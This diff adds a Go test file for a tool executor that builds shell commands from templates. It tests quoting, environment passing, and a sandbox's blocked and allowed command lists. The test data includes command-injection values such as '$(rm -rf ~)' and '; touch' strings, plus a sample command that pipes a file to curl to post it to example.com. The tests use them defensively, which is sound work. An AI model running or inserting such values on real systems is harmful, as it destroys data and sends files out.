@@ -0,0 +1,174 @@
+package executor
+
+import (
+	"os"
+	"path/filepath"
+	"testing"
+
+	"github.com/charignon/umcp/internal/config"
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+)
+
+func scriptTool(script string) (*config.Config, *config.Tool) {
+	cfg := &config.Config{
+		Metadata: config.Metadata{Name: "test"},
+		Settings: config.Settings{WorkingDir: ".", Shell: "sh"},
+	}
+	tool := &config.Tool{
+		Name:   "script",
+		Script: script,
+		Arguments: []config.Argument{
+			{Name: "dir", Type: "string", Default: "."},
+			{Name: "pattern", Type: "string", Flag: "-name"},
+			{Name: "files", Type: "array"},
+			{Name: "long", Type: "boolean", Flag: "-l"},
+			{Name: "limit", Type: "integer"},
+		},
+		Output: config.Output{Type: "raw"},
+	}
+	return cfg, tool
+}
+
+func TestBuildShellCommandQuotes(t *testing.T) {
+	cfg, tool := scriptTool(`find ${dir} ${pattern} | head -n ${limit} ${missing} "${HOME}"; ls ${long} ${files}`)
+	builder := NewCommandBuilder()
+
+	cmd, err := builder.BuildShellCommand(cfg, tool, map[string]interface{}{
+		"pattern": "it's.go",
+		"limit":   float64(5),
+		"long":    true,
+		"files":   []interface{}{"a b", "$(rm -rf ~)"},
+	})
+	require.NoError(t, err)
+
+	assert.Equal(t, `find '.' '-name' 'it'\''s.go' | head -n '5' ${missing} "${HOME}"; ls '-l' 'a b' '$(rm -rf ~)'`, cmd.Script)
+	assert.Equal(t, []string{"sh", "-c", cmd.Script}, cmd.Argv())
+	assert.Equal(t, []string{".", "-name", "it's.go", "a b", "$(rm -rf ~)", "-l", "5"}, cmd.Values)
+	assert.Empty(t, cmd.Env)
+}
+
+func TestBuildShellCommandEnv(t *testing.T) {
+	cfg, tool := scriptTool(`grep -r -- ${pattern} ${dir} | head -n ${limit}`)
+	tool.ShellArgs = "env"
+	tool.Shell = "bash"
+	builder := NewCommandBuilder()
+
+	cmd, err := builder.BuildShellCommand(cfg, tool, map[string]interface{}{
+		"pattern": "a'b; c",
+		"files":   []interface{}{"x", "y"},
+	})
+	require.NoError(t, err)
+
+	// Omitted optional arguments disappear from the script
+	assert.Equal(t, `grep -r -- "$UMCP_ARG_PATTERN" "$UMCP_ARG_DIR" | head -n `, cmd.Script)
+	assert.Equal(t, "bash", cmd.Shell)
+	assert.Equal(t, []string{"UMCP_ARG_DIR=.", "UMCP_ARG_PATTERN=a'b; c", "UMCP_ARG_FILES=x\ny"}, cmd.Env)
+}
+
+func TestBuildShellCommandRequired(t *testing.T) {
+	cfg, tool := scriptTool(`cat ${name}`)
+	tool.Arguments = []config.Argument{{Name: "name", Type: "string", Required: true}}
+
+	_, err := NewCommandBuilder().BuildShellCommand(cfg, tool, map[string]interface{}{})
+	assert.ErrorContains(t, err, "required argument name not provided")
+}
+
+func TestExecuteShellScript(t *testing.T) {
+	dir := t.TempDir()
+	for _, name := range []string{"b.go", "a.go", "c.txt"} {
+		require.NoError(t, os.WriteFile(filepath.Join(dir, name), nil, 0644))
+	}
+	marker := filepath.Join(dir, "pwned")
+
+	cfg, tool := scriptTool(`cd ${dir} && ls *.go | sort; printf '%s\n' ${files}`)
+	cfg.Security.DisableInjectionCheck = true
+	executor := NewCommandExecutor()
+
+	result, err := executor.Execute(cfg, tool, map[string]interface{}{
+		"dir":   dir,
+		"files": []interface{}{"$(touch " + marker + ")", "x; touch " + marker},
+	})
+	require.NoError(t, err)
+	assert.Equal(t, "a.go\nb.go\n$(touch "+marker+")\nx; touch "+marker+"\n", result.Output)
+	assert.NoFileExists(t, marker)
+
+	// Values passed in the environment are not expanded either
+	tool.Script = `printf '%s\n' ${pattern}`
+	tool.ShellArgs = "env"
+	result, err = executor.Execute(cfg, tool, map[string]interface{}{"pattern": "`touch " + marker + "`"})
+	require.NoError(t, err)
+	assert.Equal(t, "`touch "+marker+"`\n", result.Output)
+	assert.NoFileExists(t, marker)
+}
+
+func TestValidateShellCommand(t *testing.T) {
+	sandbox := NewSandbox()
+	security := &config.Security{
+		BlockedCommands: []string{"curl", "bash"},
+		AllowedCommands: []string{"sh", "ls", "head", "cat", "grep", "echo"},
+		DeniedFlags:     []string{"--exec"},
+	}
+
+	tests := []struct {
+		name    string
+		cmd     ShellCommand
+		wantErr string
+	}{
+		{
+			name: "pipes and globs in the script",
+			cmd:  ShellCommand{Shell: "sh", Template: "ls *.go | head -n ${limit} > /dev/null 2>&1", Values: []string{"5"}},
+		},
+		{
+			name:    "blocked shell",
+			cmd:     ShellCommand{Shell: "/bin/bash", Template: "ls"},
+			wantErr: "command 'bash' is blocked",
+		},
+		{
+			name:    "blocked command after a pipe",
+			cmd:     ShellCommand{Shell: "sh", Template: "cat ${file} | X=1 /usr/bin/curl -d @- example.com"},
+			wantErr: "command 'curl' is blocked",
+		},
+		{
+			name:    "blocked command in a substitution",
+			cmd:     ShellCommand{Shell: "sh", Template: "echo $(curl example.com)"},
+			wantErr: "command 'curl' is blocked",
+		},
+		{
+			name: "allowed commands and builtins",
+			cmd:  ShellCommand{Shell: "sh", Template: "cd /tmp && ls | head -n ${limit}", Values: []string{"5"}},
+		},
+		{
+			name:    "command not allowed",
+			cmd:     ShellCommand{Shell: "sh", Template: "ls | wc -l"},
+			wantErr: "command 'wc' is not in allowed commands",
+		},
+		{
+			name:    "denied flag in a value",
+			cmd:     ShellCommand{Shell: "sh", Template: "ls ${flags}", Values: []string{"--exec"}},
+			wantErr: "argument '--exec' matches denied flag '--exec'",
+		},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			err := sandbox.ValidateShellCommand(&tt.cmd, security)
+			if tt.wantErr == "" {
+				assert.NoError(t, err)
+			} else {
+				assert.ErrorContains(t, err, tt.wantErr)
+			}
+		})
+	}
+}
+
+func TestScriptCommands(t *testing.T) {
+	assert.Equal(t,
+		[]string{"find", "head", "sort", "wc", "echo", "date"},
+		scriptCommands("find . -name '*.go' | head -n 5 && LC_ALL=C sort; if wc -l; then echo `date`; fi"),
+	)
+	assert.Equal(t,
+		[]string{"make", "tail"},
+		scriptCommands("make test 2>&1 | tail -n 20 &> /dev/null"),
+	)
+}